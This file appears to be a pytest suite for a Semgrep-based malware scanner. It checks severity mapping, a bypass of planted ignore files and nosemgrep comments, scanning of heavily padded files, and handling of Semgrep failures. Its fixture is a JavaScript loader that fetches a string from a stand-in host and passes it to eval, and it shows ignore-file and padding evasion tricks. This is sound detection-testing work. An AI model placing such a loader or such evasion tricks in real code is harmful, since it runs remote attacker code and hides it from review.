"""SemgrepAnalyzer with the real Semgrep on small repositories made by each test."""

from __future__ import annotations

import re
from pathlib import Path

from inspector.model import Category, Engine, Severity
from inspector.static import walk
from inspector.static.interface import RepoView
from inspector.static.semgrep import SemgrepAnalyzer, semgrep_version

LOADER = (
    "const axios = require('axios');\n"
    "async function getCookie() {{\n"
    "  const result = await axios.get('https://api.npoint.invalid/ac2916e3f543effa2edd');\n"
    "  eval(result.data.cookie);{nosem}\n"
    "}}\n"
    "getCookie();\n"
)
RULE = "semgrep.remote-response-to-code-execution"


def _repo(root: Path, files: dict[str, str]) -> RepoView:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    found, _notes = walk(root)
    return RepoView(root, found)


def _loader_hits(result, path: str) -> list:
    return [f for f in result.findings if f.rule == RULE and f.path == path]


def test_loader_becomes_a_critical_semgrep_finding(tmp_path):
    repo = _repo(tmp_path, {"server/controllers/userController.js": LOADER.format(nosem="")})
    result = SemgrepAnalyzer().analyze(repo)
    assert result.skipped == ()
    (finding,) = _loader_hits(result, "server/controllers/userController.js")
    assert finding.severity is Severity.CRITICAL
    assert finding.category is Category.REMOTE_CODE_EXECUTION
    assert (finding.line, finding.column) == (4, 8)  # the code argument of eval
    assert finding.evidence == "eval(result.data.cookie);"
    assert finding.engines == (Engine.SEMGREP,)
    assert "Contagious Interview" in finding.message


def test_warning_maps_to_medium_and_error_outside_rce_to_high(tmp_path):
    repo = _repo(
        tmp_path,
        {
            "package.json": '{\n  "scripts": {\n    "prepare": "node server/server.js"\n  }\n}\n',
            "tailwind.config.js": "module.exports = {};\neval(atob('Y29uc29sZS5sb2coMSk='));\n",
        },
    )
    findings = {f.rule: f for f in SemgrepAnalyzer().analyze(repo).findings}
    assert findings["semgrep.npm-lifecycle-runs-local-script"].severity is Severity.MEDIUM
    assert findings["semgrep.npm-lifecycle-runs-local-script"].category is Category.AUTO_RUN
    assert findings["semgrep.eval-of-decoded-string"].severity is Severity.HIGH
    assert findings["semgrep.eval-of-decoded-string"].category is Category.OBFUSCATION


def test_planted_ignore_files_and_nosemgrep_comments_hide_nothing(tmp_path):
    planted = LOADER.format(nosem="  // nosemgrep")
    repo = _repo(
        tmp_path,
        {
            ".semgrepignore": "*\n",
            ".gitignore": "*\n",
            "node_modules/.semgrepignore": "*\n",
            "src/loader.js": planted,
            "node_modules/lib/index.js": planted,
            "test/fixtures/helper.js": planted,
            "dist/bundle.js": planted,
        },
    )
    (tmp_path / ".git").mkdir()  # a checkout: Semgrep would otherwise ask git what is ignored
    result = SemgrepAnalyzer().analyze(repo)
    for path in ("src/loader.js", "node_modules/lib/index.js", "test/fixtures/helper.js", "dist/bundle.js"):
        assert _loader_hits(result, path), f"{path} was hidden from Semgrep"


def test_multi_megabyte_payload_is_scanned(tmp_path):
    padding = "// " + "x" * (3 * 1024 * 1024) + "\n"
    repo = _repo(tmp_path, {"public/vite.cookie.js": padding + LOADER.format(nosem="")})
    assert (tmp_path / "public/vite.cookie.js").stat().st_size > 3_000_000
    (finding,) = _loader_hits(SemgrepAnalyzer().analyze(repo), "public/vite.cookie.js")
    assert finding.line == 5


def test_results_outside_the_scanned_files_are_dropped(tmp_path):
    # Pre-commit mode hands over a RepoView of a few files; Semgrep still walks the whole root.
    _repo(tmp_path, {"lib/loader.js": LOADER.format(nosem=""), "lib/other.js": LOADER.format(nosem="")})
    files, _notes = walk(tmp_path, only_paths=("lib/other.js",))
    result = SemgrepAnalyzer().analyze(RepoView(tmp_path, files))
    assert {f.path for f in result.findings} == {"lib/other.js"}


def test_command_is_offline_and_hardened(tmp_path):
    command = SemgrepAnalyzer().command("semgrep", Path("rules"), tmp_path)
    for flag in (
        "--metrics=off",
        "--disable-version-check",
        "--disable-nosem",
        "--no-git-ignore",
        "--x-ignore-semgrepignore-files",
    ):
        assert flag in command
    assert command[-2:] == ["--", str(tmp_path)]


def test_missing_semgrep_is_skipped_not_raised(tmp_path):
    empty_bin = tmp_path / "bin"
    empty_bin.mkdir()
    repo = _repo(tmp_path / "repo", {"index.js": LOADER.format(nosem="")})
    result = SemgrepAnalyzer(search_path=str(empty_bin)).analyze(repo)
    assert result.findings == ()
    (skipped,) = result.skipped
    assert skipped.component == "semgrep"
    assert "not installed" in skipped.reason
    assert "pip install semgrep" in skipped.fix
    assert semgrep_version(search_path=str(empty_bin)) is None


def test_semgrep_that_does_not_finish_is_skipped(tmp_path):
    big = "".join(f"function f{i}(a) {{ return axios.get(a).then((r) => r.data + {i}); }}\n" for i in range(40000))
    repo = _repo(tmp_path, {"big.js": big})
    result = SemgrepAnalyzer(wall_timeout_s=0.5).analyze(repo)
    assert result.findings == ()
    (skipped,) = result.skipped
    assert skipped.component == "semgrep"
    assert "did not finish within 0.5 s" in skipped.reason


def test_crashing_semgrep_is_skipped(tmp_path):
    fake = tmp_path / "bin" / "semgrep"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'fatal: engine crashed' >&2\nexit 2\n")
    fake.chmod(0o755)
    repo = _repo(tmp_path / "repo", {"index.js": LOADER.format(nosem="")})
    result = SemgrepAnalyzer(semgrep=str(fake)).analyze(repo)
    assert result.findings == ()
    (skipped,) = result.skipped
    assert "exit status 2" in skipped.reason and "engine crashed" in skipped.reason


def test_version_is_reported_for_doctor():
    version = semgrep_version()
    assert version is not None and re.fullmatch(r"\d+\.\d+\.\d+", version)
